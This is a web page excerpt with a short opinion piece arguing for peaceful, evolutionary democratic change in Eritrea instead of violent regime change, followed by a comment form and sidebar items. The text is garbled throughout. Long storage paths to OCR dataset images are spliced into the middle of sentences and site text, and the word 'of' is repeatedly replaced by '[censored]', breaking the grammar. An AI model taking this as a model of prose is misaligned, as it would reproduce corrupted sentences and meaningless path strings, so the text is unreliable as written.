    I understand that the basic feature [censored] democracy is its flexibility, its ability to depend on the constant and bloodless change [censored] political elites, change not chaotic, but based on strict and legitimate laws, compromises and mutual concessions.

    Therefore, democracy, if it is a real democracy, cannot experience revolution. I do not believe to change the system in Eritrea by violence/war in order to have Woyane typegovernment, because democracy means to me a constant, evolutionary change, and flexibility is its general characteristic, and the futures [censored] Eritrean democracy a relatively new system [censored] government and political order.

Add comment

Your comments are as important as the article you are commentingon. Please enrich the discussion by avoiding personal attacks. We'll publish your comment, if it meets our criteria. تعليقاتك لا تقل اهمية عن المقال المكتوب اعلاه، فالرجاء اثراء النقاش بالابتعاد عن الاساءات الشخصية. سوف ننشر تعليقك اذا استوف شروط النشر



Security code
Refresh

Enough dictatorship

Get Adobe Flash playerArkokabay Media -----> Poem

Get Adobe Flash player

مرض الرئيس الأريتري بين الشائعة والنفي

GetAdobe Flash player

ALIAGABRES- SHE COTTON SUMMER DRESSES

Get Adobe Flash player